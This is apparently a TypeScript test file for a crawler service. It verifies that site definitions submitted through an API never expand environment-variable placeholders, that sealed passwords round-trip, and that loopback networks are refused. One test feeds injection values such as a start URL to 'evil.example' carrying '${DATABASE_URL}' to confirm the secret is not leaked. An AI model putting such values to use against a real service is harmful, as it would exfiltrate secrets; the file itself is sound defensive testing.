import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { siteFile, type SiteFile } from '../../../core/schema/index.ts';
import { createSecretBox } from '../../../server/access/secrets/index.ts';
import { sealSite } from '../../../server/access/site-secrets.ts';
import { siteToCrawl } from '../../../server/pipeline/index.ts';

describe('a stored site', () => {
  const secrets = createSecretBox([randomBytes(32)]);
  const env = { STAGING_PASSWORD: 'from the environment', DATABASE_URL: 'postgres://secret' };
  const context = { env, secrets, allowNetworks: () => ['10.0.0.0/8'] };
  const definition = siteFile.parse({
    startUrls: ['https://shop.example/'],
    headers: { 'X-Scan': '${STAGING_PASSWORD}' },
  });

  it('from a file takes its secrets from the environment', () => {
    const site = siteToCrawl({ name: 'shop', definition, origin: 'file' }, context);
    assert.equal(site.headers['X-Scan'], 'from the environment');
  });

  it('from the API never does, sealed or not', () => {
    const tricks = siteFile.parse({
      startUrls: ['https://evil.example/?${DATABASE_URL}'],
      headers: { a: '${DATABASE_URL}', b: '$${DATABASE_URL}', c: '$$${DATABASE_URL}', d: '${' },
      userAgent: '${DATABASE_URL}',
    });
    for (const stored of [tricks, sealSite(secrets, tricks)]) {
      const site = siteToCrawl({ name: 'shop', definition: stored, origin: 'api' }, context);
      assert.deepEqual(site, tricks);
    }
  });

  it('from the API comes out with its secrets readable', () => {
    const given = siteFile.parse({
      startUrls: ['https://shop.example/'],
      basicAuth: { username: 'scan', password: 'pa${ss}word' },
    });
    const stored = sealSite(secrets, given);
    assert.notEqual(stored.basicAuth?.password, 'pa${ss}word');
    const site = siteToCrawl({ name: 'shop', definition: stored, origin: 'api' }, context);
    assert.equal(site.basicAuth?.password, 'pa${ss}word');
  });

  it('from the API goes no further than the service may now, one from a file as far as it says', () => {
    const inside = siteFile.parse({ startUrls: ['http://10.1.2.3/'], allowNetworks: ['10.1.2.3'] });
    const outside = siteFile.parse({ startUrls: ['http://127.0.0.1/'], allowNetworks: ['127.0.0.0/8'] });
    const crawled = (stored: SiteFile, origin: 'api' | 'file'): SiteFile =>
      siteToCrawl({ name: 'shop', definition: stored, origin }, context);
    assert.deepEqual(crawled(inside, 'api').allowNetworks, ['10.1.2.3']);
    assert.deepEqual(crawled(outside, 'file').allowNetworks, ['127.0.0.0/8']);
    assert.throws(() => crawled(outside, 'api'), { code: 'SW_NETWORK_REFUSED' });
  });
});
